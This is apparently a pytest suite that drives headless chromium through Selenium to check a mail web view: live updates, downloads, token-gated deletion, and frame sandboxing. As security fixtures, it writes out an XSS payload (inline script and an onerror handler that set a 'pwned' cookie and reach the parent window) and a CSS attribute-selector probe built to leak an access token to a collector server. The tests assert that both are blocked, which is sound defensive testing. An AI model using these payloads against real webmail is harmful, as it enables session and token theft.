"""The web view in a real browser (Debian's chromium driven by Selenium): a message sent
through 465 appears without a reload, opens, shows its HTML part, downloads its attachment,
shows its hops and is deleted; hostile HTML never reaches the page's origin.

Skipped, with the reason, where chromium or chromedriver is not installed.
"""

from __future__ import annotations

import base64
import email.utils
import http.server
import shutil
import smtplib
import threading
from collections.abc import Iterator
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("aiohttp", reason="the web view needs aiohttp (pip install roundtrip[web])")
pytest.importorskip("selenium", reason="browser tests need selenium")

from selenium import webdriver
from selenium.common.exceptions import StaleElementReferenceException
from selenium.webdriver.chrome.service import Service
from selenium.webdriver.common.by import By
from selenium.webdriver.remote.webelement import WebElement
from selenium.webdriver.support.ui import WebDriverWait

from roundtrip.stack import MailStack
from roundtrip.web import WebView

TIMEOUT = 15.0
CHROMIUM = shutil.which("chromium")
CHROMEDRIVER = shutil.which("chromedriver")

pytestmark = pytest.mark.skipif(
    CHROMIUM is None or CHROMEDRIVER is None,
    reason="needs Debian's chromium and chromium-driver (/usr/bin/chromium, chromedriver)",
)

HOSTILE_HTML = """<html><body><p id="hostile">hostile body</p>
<script>
document.body.setAttribute('data-ran', 'script');
try { window.parent.roundtripMarker = 'script'; } catch (e) {}
try { window.top.document.body.setAttribute('data-pwned', 'script'); } catch (e) {}
try { document.cookie = 'pwned=script; path=/'; } catch (e) {}
</script>
<img src="x" onerror="document.body.setAttribute('data-ran', 'onerror');
try { window.parent.roundtripMarker = 'onerror'; } catch (e) {}
try { window.top.document.body.setAttribute('data-pwned', 'onerror'); } catch (e) {}
try { document.cookie = 'pwned=onerror; path=/'; } catch (e) {}">
</body></html>"""


@pytest.fixture(scope="module")
def stack() -> Iterator[MailStack]:
    with MailStack() as running:
        yield running


@pytest.fixture(scope="module")
def view(stack: MailStack) -> Iterator[WebView]:
    with WebView(stack) as running:
        yield running


@pytest.fixture(scope="module")
def downloads(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("web16-downloads")


@pytest.fixture(scope="module")
def browser(downloads: Path) -> Iterator[Any]:
    options = webdriver.ChromeOptions()
    assert CHROMIUM is not None and CHROMEDRIVER is not None
    options.binary_location = CHROMIUM
    for arg in ("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"):
        options.add_argument(arg)
    options.add_experimental_option(
        "prefs",
        {
            "download.default_directory": str(downloads),
            "download.prompt_for_download": False,
        },
    )
    driver = webdriver.Chrome(options=options, service=Service(CHROMEDRIVER))
    driver.set_page_load_timeout(TIMEOUT)
    driver.set_script_timeout(TIMEOUT)
    try:
        yield driver
    finally:
        driver.quit()


@pytest.fixture(autouse=True)
def _clean(stack: MailStack, browser: Any) -> Iterator[None]:
    stack.reset()
    browser.switch_to.default_content()
    yield
    stack.check()


def wait(browser: Any, condition: Any, message: str) -> Any:
    # The list is rebuilt on every change: an element found a moment ago may be gone.
    waiter = WebDriverWait(browser, TIMEOUT, ignored_exceptions=[StaleElementReferenceException])
    return waiter.until(condition, message)


def submit(stack: MailStack, raw: bytes) -> None:
    sender, rcpt = stack.user("example.com"), stack.user("example.org")
    host, port = stack.endpoints("example.com").address("submissions")
    with smtplib.SMTP_SSL(host, port, context=stack.client_context(), timeout=TIMEOUT) as smtp:
        smtp.login(sender.address, sender.password)
        smtp.sendmail(sender.address, [rcpt.address], raw)


def message(stack: MailStack, subject: str, html: str) -> bytes:
    msg = EmailMessage()
    msg["From"] = stack.user("example.com").address
    msg["To"] = stack.user("example.org").address
    msg["Subject"] = subject
    msg["Message-ID"] = email.utils.make_msgid(domain="example.com")
    msg["Date"] = email.utils.formatdate()
    msg.set_content("the text part\n")
    msg.add_alternative(html, subtype="html")
    msg.add_attachment(b"id,total\n7,42\n", maintype="text", subtype="csv", filename="report.csv")
    return msg.as_bytes().replace(b"\n", b"\r\n").replace(b"\r\r\n", b"\r\n")


def open_inbox(browser: Any, view: WebView, stack: MailStack) -> None:
    # From another page: a URL differing from the current one only in its fragment would
    # not load the page again.
    browser.get("about:blank")
    browser.get(view.url_with_token)
    user = stack.user("example.org").address
    selector = f'li.box[data-user="{user}"][data-folder="INBOX"]'
    wait(browser, lambda b: b.find_element(By.ID, "status").text == "live", "events not live")
    wait(
        browser,
        lambda b: click(b.find_element(By.CSS_SELECTOR, selector)),
        "no INBOX listed",
    )
    wait(browser, lambda b: user in b.find_element(By.ID, "mailbox-title").text, "not opened")


def message_item(browser: Any, subject: str) -> WebElement:
    def found(b: Any) -> WebElement | bool:
        for item in b.find_elements(By.CSS_SELECTOR, "li.msg"):
            if item.find_element(By.CSS_SELECTOR, ".subject").text == subject:
                return item  # type: ignore[no-any-return]
        return False

    return wait(browser, found, f"{subject!r} did not appear in the list")  # type: ignore[no-any-return]


def open_message(browser: Any, subject: str) -> None:
    message_item(browser, subject)

    wait(browser, lambda b: click(message_item(b, subject)), f"{subject!r} not clickable")
    wait(browser, lambda b: b.find_element(By.ID, "msg-subject").text == subject, "not shown")


def click(element: WebElement) -> bool:
    """Click once; False (to be retried) when the list was rebuilt under the element."""
    try:
        element.click()
    except StaleElementReferenceException:
        return False
    return True


def test_web_browser_message_appears_live_opens_downloads_and_is_deleted(
    browser: Any, view: WebView, stack: MailStack, downloads: Path
) -> None:
    open_inbox(browser, view, stack)
    assert browser.find_elements(By.CSS_SELECTOR, "li.msg") == []
    submit(stack, message(stack, "seen live", "<h1 id='greeting'>Hello from HTML</h1>"))
    # No reload: the list updates from the events stream.
    open_message(browser, "seen live")

    frame = browser.find_element(By.ID, "html-frame")
    assert frame.get_attribute("sandbox") == ""
    browser.switch_to.frame(frame)
    heading = wait(browser, lambda b: b.find_elements(By.ID, "greeting"), "no HTML in the frame")
    assert heading[0].text == "Hello from HTML"
    browser.switch_to.default_content()

    browser.find_element(By.CSS_SELECTOR, '.tabs button[data-tab="parts"]').click()
    link = browser.find_element(By.CSS_SELECTOR, "#parts a[data-index='0']")
    assert link.text == "report.csv"
    link.click()
    target = downloads / "report.csv"
    wait(browser, lambda b: target.exists() and target.stat().st_size > 0, "no download")
    assert (
        target.read_bytes()
        == stack.messages(stack.user("example.org").address)[0].attachments[0].data
    )
    assert "multipart/mixed" in browser.find_element(By.ID, "mime").text

    browser.find_element(By.CSS_SELECTOR, '.tabs button[data-tab="journey"]').click()
    hops = browser.find_elements(By.CSS_SELECTOR, "#hops tr.hop")
    assert len(hops) == 2
    assert all("TLSv1.3" in hop.text for hop in hops), [h.text for h in hops]
    steps = browser.find_element(By.ID, "steps").text
    assert "submissions accepted" in steps and "stored" in steps

    browser.find_element(By.CSS_SELECTOR, '.tabs button[data-tab="raw"]').click()
    wait(browser, lambda b: "Subject: seen live" in b.find_element(By.ID, "raw").text, "no raw")

    browser.find_element(By.ID, "delete").click()
    wait(browser, lambda b: not b.find_elements(By.CSS_SELECTOR, "li.msg"), "not removed")
    assert stack.messages(stack.user("example.org").address) == []


def test_web_browser_without_token_cannot_delete(
    browser: Any, view: WebView, stack: MailStack
) -> None:
    submit(stack, message(stack, "kept", "<p>kept</p>"))
    browser.get(view.url)
    browser.execute_script("sessionStorage.clear()")
    browser.get(view.url)
    wait(browser, lambda b: "read-only" in b.find_element(By.ID, "token-state").text, "token")
    user = stack.user("example.org").address
    status = browser.execute_async_script(
        """const done = arguments[arguments.length - 1];
        fetch('/api/messages?' + new URLSearchParams({user: arguments[0]}), {method: 'DELETE'})
          .then((r) => done(r.status), (e) => done(String(e)));""",
        user,
    )
    assert status == 403
    assert [m.subject for m in stack.messages(user)] == ["kept"]


def test_web_browser_hostile_html_cannot_reach_the_page(
    browser: Any, view: WebView, stack: MailStack
) -> None:
    open_inbox(browser, view, stack)
    submit(stack, message(stack, "hostile", HOSTILE_HTML))
    open_message(browser, "hostile")
    frame = browser.find_element(By.ID, "html-frame")
    browser.switch_to.frame(frame)
    wait(browser, lambda b: b.find_elements(By.ID, "hostile"), "hostile HTML not shown")
    # Neither the script nor the onerror handler ran, even inside the frame.
    assert browser.find_element(By.TAG_NAME, "body").get_attribute("data-ran") is None
    browser.switch_to.default_content()
    assert browser.execute_script("return window.roundtripMarker === undefined")
    assert browser.find_element(By.TAG_NAME, "body").get_attribute("data-pwned") is None
    assert "pwned" not in browser.execute_script("return document.cookie")
    assert not [c for c in browser.get_cookies() if c["name"] == "pwned"]


def test_web_browser_marker_check_sees_an_unsandboxed_frame(
    browser: Any, view: WebView, stack: MailStack
) -> None:
    """The twin: the same HTML in a frame without the sandbox does reach the page, so the
    checks above would see it if the view's frame let it through."""
    # about:blank has no policy of its own, so srcdoc script runs with the page's origin.
    browser.get("about:blank")
    browser.execute_script(
        """const frame = document.createElement('iframe');
        frame.srcdoc = arguments[0];
        document.body.append(frame);""",
        HOSTILE_HTML,
    )
    wait(
        browser,
        lambda b: b.execute_script("return window.roundtripMarker !== undefined"),
        "the unsandboxed frame's script did not reach the page",
    )
    assert browser.find_element(By.TAG_NAME, "body").get_attribute("data-pwned") in (
        "script",
        "onerror",
    )


def test_web_browser_search_filters_and_empty_clears_the_mailbox(
    browser: Any, view: WebView, stack: MailStack
) -> None:
    open_inbox(browser, view, stack)
    for subject in ("invoice march", "welcome aboard", "invoice april"):
        submit(stack, message(stack, subject, f"<p>{subject}</p>"))
    message_item(browser, "invoice april")
    browser.find_element(By.ID, "search").send_keys("INVOICE")

    def subjects(b: Any) -> list[str]:
        return [e.text for e in b.find_elements(By.CSS_SELECTOR, "li.msg .subject")]

    wait(browser, lambda b: subjects(b) == ["invoice april", "invoice march"], "not filtered")
    browser.find_element(By.ID, "empty").click()
    wait(browser, lambda b: b.switch_to.alert, "no confirmation asked").accept()
    wait(browser, lambda b: subjects(b) == [], "the list was not emptied")
    assert stack.messages(stack.user("example.org").address) == []


def test_web_browser_empty_dismissed_keeps_the_mailbox(
    browser: Any, view: WebView, stack: MailStack
) -> None:
    open_inbox(browser, view, stack)
    submit(stack, message(stack, "stays", "<p>stays</p>"))
    message_item(browser, "stays")
    browser.find_element(By.ID, "empty").click()
    wait(browser, lambda b: b.switch_to.alert, "no confirmation asked").dismiss()
    message_item(browser, "stays")
    assert [m.subject for m in stack.messages(stack.user("example.org").address)] == ["stays"]


def test_web_browser_remote_images_switch_reloads_the_frame_with_remote_allowed(
    browser: Any, view: WebView, stack: MailStack
) -> None:
    open_inbox(browser, view, stack)
    submit(stack, message(stack, "pixel", "<p>pixel</p><img src='https://tracker.invalid/p.gif'>"))
    open_message(browser, "pixel")
    frame = browser.find_element(By.ID, "html-frame")
    assert "remote=0" in frame.get_attribute("src")
    browser.find_element(By.ID, "remote").click()
    wait(browser, lambda b: "remote=1" in frame.get_attribute("src"), "frame not reloaded")
    open_message(browser, "pixel")  # the switch is per message: opening again blocks again
    # The subject shown is already "pixel", so open_message() returns before the view is
    # drawn again: wait for the frame itself.
    wait(
        browser,
        lambda b: "remote=0" in b.find_element(By.ID, "html-frame").get_attribute("src"),
        "opening the message again kept remote images allowed",
    )


def test_web_browser_works_with_a_view_whose_reads_need_the_token(
    browser: Any, stack: MailStack
) -> None:
    with WebView(stack, read_token=True) as guarded:
        open_inbox(browser, guarded, stack)
        submit(stack, message(stack, "guarded", "<h1 id='greeting'>guarded HTML</h1>"))
        open_message(browser, "guarded")
        browser.switch_to.frame(browser.find_element(By.ID, "html-frame"))
        wait(browser, lambda b: b.find_elements(By.ID, "greeting"), "no HTML in the frame")
        browser.switch_to.default_content()
        browser.get("about:blank")  # the page's stream closes before the view stops


def test_web_browser_without_the_token_a_guarded_view_shows_nothing(
    browser: Any, stack: MailStack
) -> None:
    with WebView(stack, read_token=True) as guarded:
        browser.get("about:blank")
        browser.get(guarded.url)
        browser.execute_script("sessionStorage.clear()")
        browser.get("about:blank")
        browser.get(guarded.url)
        wait(browser, lambda b: "403" in b.find_element(By.ID, "error").text, "no refusal")
        assert browser.find_elements(By.CSS_SELECTOR, "li.box") == []
        browser.get("about:blank")


# A 1x1 PNG.
PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
)


class _Collector(http.server.BaseHTTPRequestHandler):
    """A remote server of the message's choosing: records each request it is sent."""

    hits: list[tuple[str, str]] = []
    arrived: dict[str, threading.Event] = {}

    def do_GET(self) -> None:
        self.hits.append((self.path, str(self.headers)))
        self.arrived.setdefault(self.path, threading.Event()).set()
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def collector() -> Iterator[tuple[str, type[_Collector]]]:
    handler = type("Collector", (_Collector,), {"hits": [], "arrived": {}})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", handler
    finally:
        server.shutdown()
        server.server_close()
        thread.join(TIMEOUT)


def test_web_browser_guarded_view_message_css_cannot_read_the_token(
    browser: Any, stack: MailStack, collector: tuple[str, type[_Collector]]
) -> None:
    remote, seen = collector
    with WebView(stack, read_token=True) as guarded:
        # Same selector weight, later rule wins: the control request is made only when
        # neither leak rule matches the image's URL (the cascade picks one background).
        css = (
            f'img[src*="/api/message/attachment"]{{background-image:url({remote}/control)}}'
            f'img[src*="token"]{{background-image:url({remote}/leak-param)}}'
            f'img[src*="{guarded.token}"]{{background-image:url({remote}/leak-token)}}'
        )
        html = (
            f"<html><head><style>{css}</style></head><body><p id='hello'>newsletter</p>"
            "<img id='logo' src='cid:logo@x' width='8' height='8'>"
            # Its frame's URL, sent as Referer whatever the response's Referrer-Policy.
            f"<img src='{remote}/referer' referrerpolicy='unsafe-url'></body></html>"
        )
        msg = EmailMessage()
        msg["From"] = stack.user("example.com").address
        msg["To"] = stack.user("example.org").address
        msg["Subject"] = "css probe"
        msg.set_content("text\n")
        msg.add_alternative(html, subtype="html")
        msg.get_payload()[1].add_related(PIXEL, "image", "png", cid="<logo@x>")
        open_inbox(browser, guarded, stack)
        submit(stack, msg.as_bytes().replace(b"\n", b"\r\n").replace(b"\r\r\n", b"\r\n"))
        open_message(browser, "css probe")
        browser.find_element(By.ID, "remote").click()
        frame = browser.find_element(By.ID, "html-frame")
        wait(browser, lambda b: "remote=1" in frame.get_attribute("src"), "frame not reloaded")
        assert guarded.token not in frame.get_attribute("src")
        for path in ("/control", "/referer"):
            event = seen.arrived.setdefault(path, threading.Event())
            assert event.wait(TIMEOUT), f"no {path} request: {seen.hits}"
        leaked = [hit for hit in seen.hits if guarded.token in hit[0] + hit[1]]
        assert leaked == []
        assert not [path for path, _ in seen.hits if path.startswith("/leak")], seen.hits
        # The inline image still loads, by its capability.
        browser.switch_to.frame(frame)
        logo = wait(browser, lambda b: b.find_element(By.ID, "logo"), "no image")
        wait(browser, lambda b: logo.get_property("naturalWidth") == 1, "image not loaded")
        browser.switch_to.default_content()
        browser.get("about:blank")  # the page's stream closes before the view stops
